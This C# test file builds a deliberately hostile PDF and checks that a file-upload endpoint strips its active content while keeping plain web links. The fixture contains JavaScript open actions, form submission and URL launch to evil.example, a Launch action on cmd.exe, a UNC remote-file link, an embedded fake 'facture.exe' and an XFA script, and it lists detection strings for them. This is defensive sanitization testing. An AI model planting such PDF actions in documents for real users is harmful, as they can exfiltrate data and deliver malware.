using Contrevue.Infrastructure.Security;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using Contrevue.Features.Accounts;
using Contrevue.Infrastructure.Files;
using Microsoft.Extensions.DependencyInjection;
using PdfSharp.Pdf;
using PdfSharp.Pdf.Advanced;
using PdfSharp.Pdf.IO;

namespace Contrevue.Tests.Hardening;

/// <summary>
/// Class 12: uploaded PDFs kept their JavaScript and their /OpenAction. A PDF is stored without anything
/// that runs, launches, submits or carries a file: document, page, annotation and field actions, the
/// JavaScript and embedded-file name trees, file attachments, XFA. Plain web links stay.
/// </summary>
[Collection(AppsCollection.Name)]
public sealed class ActivePdfContentTests(TestApps apps)
{
    private static PdfDictionary Action(PdfDocument document, string type, params (string Key, PdfItem Value)[] entries)
    {
        var action = new PdfDictionary(document);
        action.Elements["/Type"] = new PdfName("/Action");
        action.Elements["/S"] = new PdfName(type);
        foreach (var (key, value) in entries)
        {
            action.Elements[key] = value;
        }
        return action;
    }

    private static PdfItem Indirect(PdfDocument document, PdfObject item)
    {
        document.Internals.AddObject(item);
        return item.Reference!;
    }

    private static PdfDictionary Link(PdfDocument document, PdfDictionary action)
    {
        var link = new PdfDictionary(document);
        link.Elements["/Type"] = new PdfName("/Annot");
        link.Elements["/Subtype"] = new PdfName("/Link");
        link.Elements["/Rect"] = new PdfArray(document, new PdfInteger(10), new PdfInteger(10), new PdfInteger(100), new PdfInteger(30));
        link.Elements["/A"] = action;
        return link;
    }

    /// <summary>Everything a hostile PDF can run or carry, built with PDFsharp.</summary>
    internal static byte[] HostilePdf()
    {
        var document = new PdfDocument();
        var page = document.AddPage();

        var alert = Action(document, "/JavaScript", ("/JS", new PdfString("app.alert('Votre document est à moi');")));
        var catalog = document.Internals.Catalog;
        catalog.Elements["/OpenAction"] = Indirect(document, alert);
        var catalogActions = new PdfDictionary(document);
        catalogActions.Elements["/WC"] = Action(document, "/JavaScript", ("/JS", new PdfString("this.submitForm('https://evil.example/');")));
        catalog.Elements["/AA"] = catalogActions;

        var pageActions = new PdfDictionary(document);
        pageActions.Elements["/O"] = Action(document, "/JavaScript", ("/JS", new PdfString("app.launchURL('https://evil.example/ouvert');")));
        page.Elements["/AA"] = pageActions;

        // An embedded file, named in the EmbeddedFiles tree and attached to the page.
        var payload = new PdfDictionary(document);
        payload.Elements["/Type"] = new PdfName("/EmbeddedFile");
        payload.CreateStream(Encoding.ASCII.GetBytes("MZ pretend this is a program"));
        var embedded = new PdfDictionary(document);
        embedded.Elements["/F"] = Indirect(document, payload);
        var fileSpec = new PdfDictionary(document);
        fileSpec.Elements["/Type"] = new PdfName("/Filespec");
        fileSpec.Elements["/F"] = new PdfString("facture.exe");
        fileSpec.Elements["/EF"] = embedded;
        var fileSpecReference = Indirect(document, fileSpec);

        var scripts = new PdfDictionary(document);
        scripts.Elements["/Names"] = new PdfArray(document, new PdfString("init"), Indirect(document, Action(document, "/JavaScript", ("/JS", new PdfString("app.alert(1);")))));
        var files = new PdfDictionary(document);
        files.Elements["/Names"] = new PdfArray(document, new PdfString("facture.exe"), fileSpecReference);
        var names = new PdfDictionary(document);
        names.Elements["/JavaScript"] = scripts;
        names.Elements["/EmbeddedFiles"] = files;
        catalog.Elements["/Names"] = names;

        var attachment = new PdfDictionary(document);
        attachment.Elements["/Type"] = new PdfName("/Annot");
        attachment.Elements["/Subtype"] = new PdfName("/FileAttachment");
        attachment.Elements["/Rect"] = new PdfArray(document, new PdfInteger(0), new PdfInteger(0), new PdfInteger(20), new PdfInteger(20));
        attachment.Elements["/FS"] = fileSpecReference;

        var launch = Link(document, Action(document, "/Launch", ("/F", new PdfString("C:\\Windows\\System32\\cmd.exe"))));
        var scriptLink = Link(document, Action(document, "/URI", ("/URI", new PdfString("javascript:alert(1)"))));
        var web = Link(document, Action(document, "/URI", ("/URI", new PdfString("https://www.laquadrature.net/"))));
        var submit = Link(document, Action(document, "/SubmitForm", ("/F", new PdfString("https://evil.example/collecte"))));
        var remote = Link(document, Action(document, "/GoToR", ("/F", new PdfString("\\\\evil.example\\partage\\piege.pdf"))));
        page.Elements["/Annots"] = new PdfArray(document,
            Indirect(document, attachment), Indirect(document, launch), Indirect(document, scriptLink), Indirect(document, web),
            Indirect(document, submit), Indirect(document, remote));

        var form = new PdfDictionary(document);
        form.Elements["/Fields"] = new PdfArray(document);
        form.Elements["/XFA"] = new PdfString("<xdp:xdp><script>xfa.host.messageBox('XFA')</script></xdp:xdp>");
        catalog.Elements["/AcroForm"] = form;

        using var output = new MemoryStream();
        document.Save(output, closeStream: false);
        return output.ToArray();
    }

    [Fact]
    public void The_hostile_pdf_holds_what_the_test_says_it_does()
    {
        var pdf = HostilePdf();
        foreach (var name in new[] { "/JavaScript", "/OpenAction", "/EmbeddedFile", "/Launch", "/AA", "/XFA", "/FileAttachment", "/SubmitForm", "/GoToR" })
        {
            Assert.True(Contains(pdf, name), name);
        }
    }

    [Theory, MemberData(nameof(TestDatabases.All), MemberType = typeof(TestDatabases))]
    public async Task An_uploaded_pdf_is_stored_without_scripts_actions_or_embedded_files(DatabaseProvider provider)
    {
        await using var app = new AppFactory((await apps.GetAsync(provider)).Database, ownsDatabase: false);
        var (_, token) = await TestAccounts.CreateWithTokenAsync(app, Roles.Moderator);

        using var form = new MultipartFormDataContent();
        var file = new ByteArrayContent(HostilePdf());
        file.Headers.ContentType = MediaTypeHeaderValue.Parse("application/pdf");
        form.Add(file, "file", "arrete-prefectoral.pdf");
        var response = await TestAccounts.ClientWithToken(app, token).PostAsync("/api/v1/files", form);

        Assert.True(response.StatusCode == HttpStatusCode.Created, await response.Content.ReadAsStringAsync());
        using var json = JsonDocument.Parse(await response.Content.ReadAsStringAsync());
        var sha256 = json.RootElement.GetProperty("sha256").GetString()!;
        byte[] stored;
        using (var scope = app.Services.CreateScope())
        {
            stored = (await scope.ServiceProvider.GetRequiredService<SourceFileStore>().ReadAsync(sha256, default))!;
        }

        foreach (var name in new[] { "/JavaScript", "/OpenAction", "/EmbeddedFile", "/Launch", "/JS", "/XFA", "/FileAttachment", "/SubmitForm", "/GoToR", "javascript:", "cmd.exe", "facture.exe" })
        {
            Assert.False(Contains(stored, name), $"{name} is still in the stored PDF");
        }

        using var document = PdfReader.Open(new MemoryStream(stored), PdfDocumentOpenMode.Import);
        var catalog = document.Internals.Catalog;
        Assert.False(catalog.Elements.ContainsKey("/OpenAction"));
        Assert.False(catalog.Elements.ContainsKey("/AA"));
        var names = catalog.Elements.GetDictionary("/Names");
        Assert.False(names?.Elements.ContainsKey("/JavaScript") == true);
        Assert.False(names?.Elements.ContainsKey("/EmbeddedFiles") == true);
        Assert.False(catalog.Elements.GetDictionary("/AcroForm")?.Elements.ContainsKey("/XFA") == true);
        var page = document.Pages[0];
        Assert.False(page.Elements.ContainsKey("/AA"));
        var annotations = page.Elements.GetArray("/Annots")!.Elements.Select(a => ((PdfReference)a).Value).Cast<PdfDictionary>().ToList();
        Assert.DoesNotContain(annotations, a => a.Elements.GetName("/Subtype") == "/FileAttachment");
        var actions = annotations.Select(a => a.Elements.GetDictionary("/A")).OfType<PdfDictionary>().ToList();
        Assert.All(actions, a => Assert.Equal("/URI", a.Elements.GetName("/S")));
        // Plain web links are kept: a CADA answer cites its sources, a viewer asks before following one.
        var link = Assert.Single(actions);
        Assert.Equal("https://www.laquadrature.net/", link.Elements.GetString("/URI"));
        Assert.All(document.Internals.GetAllObjects().OfType<PdfDictionary>(), d => Assert.False(d.Elements.ContainsKey("/AA")));
    }

    private static bool Contains(byte[] haystack, string needle) => haystack.AsSpan().IndexOf(Encoding.ASCII.GetBytes(needle)) >= 0;
}
